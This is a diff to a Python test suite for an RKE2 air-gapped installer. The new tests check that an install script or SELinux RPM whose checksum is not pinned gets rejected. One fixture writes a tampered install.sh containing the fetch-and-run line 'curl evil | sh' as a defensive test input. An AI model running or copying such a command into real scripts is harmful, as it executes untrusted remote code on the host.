@@ -21,7 +21,7 @@ from pathlib import Path
 import pytest
 import yaml
 
-from vmstation import facts as facts_mod, rhel
+from vmstation import facts as facts_mod, rhel, versions
 from vmstation.context import HostContext, RunContext
 from vmstation.errors import InputError, InventoryError, Unsupported
 from vmstation.execute import PhaseOutcome, decide_steps, apply
@@ -349,9 +349,50 @@ def test_airgapped_install_refuses_a_file_whose_checksum_differs(homelab, tmp_pa
         list(rke2.install(context(_with_artifacts(homelab, directory), "homelab", RHEL10, tmp_path)))
 
 
+TEST_INSTALL_SCRIPT = b"#!/bin/sh\n"
+
+
+@pytest.fixture(autouse=True)
+def test_install_script_is_pinned(monkeypatch):
+    """The air-gap directories of these tests hold a stand-in install.sh: pinned for the test's duration."""
+    monkeypatch.setitem(versions.RKE2_INSTALL_SCRIPTS, hashlib.sha256(TEST_INSTALL_SCRIPT).hexdigest(),
+                        "the stand-in install.sh of test_rke2_plan")
+
+
+def test_airgapped_install_refuses_an_install_sh_that_is_not_pinned(homelab, tmp_path):
+    directory = _artifacts_dir(tmp_path)
+    (directory / "install.sh").write_text("#!/bin/sh\ncurl evil | sh\n")
+    with pytest.raises(InputError, match="install.sh: sha256 [0-9a-f]{64} is not a pinned RKE2 install.sh"):
+        list(rke2.install(context(_with_artifacts(homelab, directory), "homelab", RHEL10, tmp_path)))
+
+
+def test_airgapped_selinux_rpm_is_installed_only_when_pinned(homelab, tmp_path, monkeypatch):
+    directory = _artifacts_dir(tmp_path)
+    rpm = directory / "rke2-selinux-0.20-1.el10.noarch.rpm"
+    rpm.write_bytes(b"rpm bytes")
+    inventory = _with_artifacts(homelab, directory)
+    with pytest.raises(InputError, match="rke2-selinux-0.20-1.el10.noarch.rpm: sha256 .* not a pinned rke2-selinux"):
+        list(rke2.install(context(inventory, "homelab", RHEL10, tmp_path)))
+    monkeypatch.setitem(versions.RKE2_SELINUX_RPMS, rpm.name, hashlib.sha256(b"other bytes").hexdigest())
+    with pytest.raises(InputError, match="not a pinned rke2-selinux"):
+        list(rke2.install(context(inventory, "homelab", RHEL10, tmp_path)))
+    monkeypatch.setitem(versions.RKE2_SELINUX_RPMS, rpm.name, hashlib.sha256(b"rpm bytes").hexdigest())
+    ops = list(rke2.install(context(inventory, "homelab", RHEL10, tmp_path)))
+    assert any(isinstance(op, Command) and rpm.name in op.label for op in ops)
+    # or listed in the checksum file rke2-selinux's release publishes beside its RPMs
+    monkeypatch.delitem(versions.RKE2_SELINUX_RPMS, rpm.name)
+    _release_sums_of_rpms(directory)
+    ops = list(rke2.install(context(inventory, "homelab", RHEL10, tmp_path)))
+    assert any(isinstance(op, Command) and rpm.name in op.label for op in ops)
+    rpm.write_bytes(b"rpm bytes, altered")
+    with pytest.raises(InputError, match="not a pinned rke2-selinux"):
+        list(rke2.install(context(inventory, "homelab", RHEL10, tmp_path)))
+
+
 def test_airgapped_install_uploads_checked_files_then_runs_install_sh(homelab, tmp_path):
     directory = _artifacts_dir(tmp_path)
     (directory / POLICY_RPM).write_bytes(b"rpm")
+    _release_sums_of_rpms(directory)
     ops = list(rke2.install(context(_with_artifacts(homelab, directory), "homelab", RHEL10, tmp_path)))
     files = {op.path: op for op in ops if isinstance(op, File)}
     assert set(files) == {f"{rke2.REMOTE_ARTIFACTS}/{name}" for name in (*rke2.AIRGAP_FILES, POLICY_RPM)} | {
@@ -372,6 +413,7 @@ POLICY_RPM = "rke2-selinux-0.22-1.el10.noarch.rpm"
 def test_airgapped_selinux_without_the_el10_policy_rpm_is_bad_input(homelab, tmp_path):
     directory = _artifacts_dir(tmp_path)
     (directory / "rke2-selinux-0.22-1.el9.noarch.rpm").write_bytes(b"rpm")
+    _release_sums_of_rpms(directory)
     inventory = _with_artifacts(homelab, directory)
     with pytest.raises(InventoryError, match="key 'clusters.rke2.artifacts_dir': selinux is on but artifacts_dir .* "
                                              "holds no rke2-selinux-\\*.el10.noarch.rpm"):
@@ -524,6 +566,12 @@ def _artifacts_dir(tmp_path: Path) -> Path:
         "".join(f"{hashlib.sha256(c).hexdigest()}  {n}\n" for n, c in release.items()))
     (directory / "install.sh").write_text("#!/bin/sh\n")
     return directory
+
+
+def _release_sums_of_rpms(directory: Path) -> None:
+    """The checksum file rke2-selinux's release publishes beside its RPMs, for the RPMs in ``directory``."""
+    (directory / "sha256sum-centos10-noarch.txt").write_text("".join(
+        f"{hashlib.sha256(p.read_bytes()).hexdigest()}  {p.name}\n" for p in sorted(directory.glob("*.rpm"))))
 
 
 def _with_artifacts(inventory, directory: Path):
